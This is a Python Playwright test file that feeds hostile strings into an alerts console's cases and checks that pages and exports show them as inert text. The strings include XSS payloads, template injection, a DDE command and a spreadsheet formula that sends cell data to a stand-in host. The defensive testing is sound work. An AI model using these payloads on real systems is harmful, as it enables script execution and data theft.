"""Whatever a platform's people may write, in whatever field: it is shown as text, nothing of it runs, and the page keeps its shape."""

import csv
import io
import json
from pathlib import Path
from typing import Any
from urllib.parse import quote

from playwright.sync_api import Browser, expect

from tests.alerts.console.page.browser import OPEN_ALL, overflow, visiting
from tests.alerts.console.page.conftest import Console
from tests.alerts.console.page.running import Api, case_path, wait_until
from tests.alerts.console.page.stretch import Stretch, pile_on

SAID = [
    "<script>console.log('ran: script')</script>",
    "<img src=x onerror=\"console.log('ran: handler')\">",
    "\"><svg onload=alert('ran')>",
    "javascript:alert('ran')",
    "'};alert('ran');//",
    "{{constructor.constructor('alert(1)')()}}",
    "\u202egnp.exe\u202c \u2066\u2067 \u200b\u200d\ufeff\u00ad",
    '=HYPERLINK("https://elsewhere.invalid/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\t=1+1",
    "<iframe src=https://elsewhere.invalid></iframe>",
    "</title></style></textarea></script><base href=https://elsewhere.invalid/>",
    "a\x00b\x01\x1b[31m\x7f",
    "\U0001f600\u0301\u0489" * 20,
    "Z\u0351\u036b\u0343" * 40,
    "\u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "%00%2e%2e/../..//etc?x=#y",
    "line\nbreak\r\nand\u2028more",
    "__proto__",
    "constructor",
]
LONGEST_ID = 512
WORD = "w" * 20_000
OURS = {"schema", "status", "verdict", "severity", "kind", "digest", "previous_digest", "text_hash"}
"""Fields whose values are the engine's own; what else a string is may have come from anybody."""


WORDS = {"name", "code", "how", "role", "type", "action", "reason", "flags"}
"""Fields by whose values the page finds its own words."""


class Spoiler:
    """Replaces strings in the bodies of a case, each by the same one everywhere, but those of some fields."""

    def __init__(self, kept: set[str]) -> None:
        self._kept, self._said = kept, dict[str, str]()

    def spoil(self, value: Any, field: str = "") -> Any:
        if isinstance(value, dict):
            return {key: self.spoil(one, key) for key, one in value.items()}
        if isinstance(value, list):
            return [self.spoil(one, field) for one in value]
        if not isinstance(value, str) or field in self._kept:
            return value
        if field == "text":
            return f"{SAID[len(value) % len(SAID)]} {WORD if len(value) % 3 == 0 else WORD[:10]}"
        return self._name(value)

    def _name(self, before: str) -> str:
        if before not in self._said:
            at = len(self._said)
            bad = SAID[at % len(SAID)] if at % (len(SAID) + 1) else "w" * LONGEST_ID
            self._said[before] = f"{bad}{at}".encode()[-LONGEST_ID:].decode(errors="ignore")
        return self._said[before]


def spoilt(said: Stretch, kept: set[str]) -> tuple[str, list[tuple[str, bytes]]]:
    """The messages of a case in which every string is hostile but those of some fields."""
    revisions = pile_on()
    spoiler = Spoiler(OURS | kept)
    alert = f"{SAID[1]}{SAID[3]}/{SAID[6]}{len(kept)}"
    bodies = [("evidence", "alert", one.body) for one in said.rests_on(revisions)]
    found = []
    for topic, own, body in [*bodies, ("alerts", "id", revisions[-1].body)]:
        found.append((topic, json.dumps({**spoiler.spoil(json.loads(body)), own: alert}).encode()))
    return alert, found


def test_nothing_runs_and_the_layout_holds(chromium: Browser, console: Console, said: Stretch, tmp_path: Path) -> None:
    cases = dict(spoilt(said, kept) for kept in (set[str](), WORDS))
    for alert, messages in cases.items():
        console.feeder.write(alert, messages)
    with Api(console.address, "ana") as ana:
        wait_until(lambda: len(ana.cases()) == len(cases))
        for alert in cases:
            ana.post(f"{case_path(alert)}/notes", {"text": " ".join(SAID).replace("\x00", "")})
        exported = {
            ending: [ana.bytes_of(f"{case_path(alert)}/export.{ending}") for alert in cases]
            for ending in ("json", "csv", "html")
        }

    for width in (1280, 360):
        with visiting(chromium, console.address, viewport={"width": width, "height": 800}) as visit:
            visit.sign_in("ada")
            page = visit.page("/")
            expect(page.locator("main li.case-row")).to_have_count(len(cases))
            assert overflow(page) == []
            for alert in cases:
                page.goto(f"{visit.address}/cases/{quote(alert, safe='')}")
                expect(page.locator("main canvas").first).to_be_visible()
                page.evaluate(OPEN_ALL)
                expect(page.locator("main .said").nth(7)).to_be_visible()
                assert overflow(page) == []
                assert (
                    page.locator("main script, main iframe, main base, main img, main a[href^='javascript:']").count()
                    == 0
                )
            page.goto(f"{visit.address}/audit")
            expect(page.locator("main table")).to_be_visible()
            assert overflow(page) == []

    with visiting(chromium, "about://blank") as visit:
        page = visit.context.new_page()
        for body in exported["html"]:
            page.set_content(body.decode())
            expect(page.locator("h1")).to_be_visible()
            assert page.locator("script, iframe, img, base").count() == 0
    for body in exported["csv"]:
        for line in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
            assert not any(is_formula(cell) for cell in line), [cell[:40] for cell in line if is_formula(cell)]
    for at, body in enumerate(exported["json"]):
        path = tmp_path / f"{at}.json"
        path.write_bytes(body)
        console.deployment.run("verify", str(path), expect=1)


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would reckon with a cell."""
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False
